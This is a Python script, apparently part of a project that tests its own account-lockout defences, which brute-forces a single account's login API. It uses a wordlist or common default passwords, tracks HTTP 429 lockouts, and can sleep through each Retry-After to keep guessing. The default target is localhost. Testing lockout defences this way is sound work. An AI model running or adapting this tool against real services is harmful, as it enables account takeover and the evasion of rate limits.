import argparse
import time
from pathlib import Path
import sys

import requests

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.append(str(ROOT))

from drillguard.config import get_lockout_policy, load_config


CFG = load_config()


def attack(args):
    if args.wordlist:
        passwords = [line.strip() for line in open(args.wordlist, "r", encoding="utf-8") if line.strip()]
    else:
        passwords = ["password", "123456", "letmein", "welcome", "Password1!"]

    session = requests.Session()
    total = 0
    lockouts = 0
    start = time.time()
    for pwd in passwords:
        total += 1
        resp = session.post(f"{args.base}/login", json={"email": args.email, "password": pwd}, timeout=5)

        if resp.status_code == 200:
            duration = time.time() - start
            print(f"Success after {total} attempts ({lockouts} lockouts) in {duration:.2f}s")
            return

        if resp.status_code == 429:
            lockouts += 1
            retry_after = int(resp.headers.get("Retry-After", "0"))
            print(f"[{total}] {pwd} -> locked out, retry after {retry_after}s")
            if args.wait and retry_after:
                time.sleep(retry_after + 1)
            continue

        print(f"[{total}] {pwd} -> {resp.status_code} {resp.json().get('detail')}")
    print(f"No success after {total} attempts ({lockouts} lockouts)")


def main():
    policy = get_lockout_policy(CFG)
    parser = argparse.ArgumentParser(
        description=f"Brute-force a single account (locks after {policy.max_attempts} failures)"
    )
    parser.add_argument("email")
    parser.add_argument("--wordlist", help="path to wordlist")
    parser.add_argument("--base", default="http://127.0.0.1:8000", help="API base URL")
    parser.add_argument("--wait", action="store_true", help="sleep through each lockout instead of hammering")
    args = parser.parse_args()
    attack(args)


if __name__ == "__main__":
    main()
